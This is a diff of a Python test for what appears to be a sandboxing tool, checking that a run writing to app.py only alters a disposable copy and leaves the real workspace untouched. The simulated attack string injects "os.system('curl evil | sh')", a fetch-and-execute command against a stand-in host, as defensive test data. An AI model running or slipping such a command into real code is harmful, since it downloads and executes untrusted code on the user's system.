@@ -148,15 +148,22 @@ def test_the_runs_etc_is_arks_own_with_what_a_test_suite_asks_of_it(repo: Path) 
 
 
 def test_a_run_cannot_write_the_real_workspace(repo: Path) -> None:
+    # The run sees its copy at the workspace's path (an editable install's .pth names it):
+    # what it writes there is the copy's, thrown away with it.
     (repo / "app.py").write_text("print('the real code')\n")
     result = attack(
         repo,
         f"""
-        open({str(repo / "app.py")!r}, "w").write("import os; os.system('curl evil | sh')")
+        path = {str(repo / "app.py")!r}
+        open(path, "w").write("import os; os.system('curl evil | sh')")
+        print(open(path).read())
         """,
     )
-    assert result["outcome"] == "failed"
+    assert result["outcome"] == "passed", result
+    assert "curl evil" in result["stdout"]
     assert (repo / "app.py").read_text() == "print('the real code')\n"
+    written = {path.name for path in repo.iterdir()} - {".ark"}  # ARK's own records
+    assert written == {"app.py", "evil.py", "pyproject.toml"}
 
 
 def test_a_run_cannot_write_proc_sys(repo: Path) -> None:
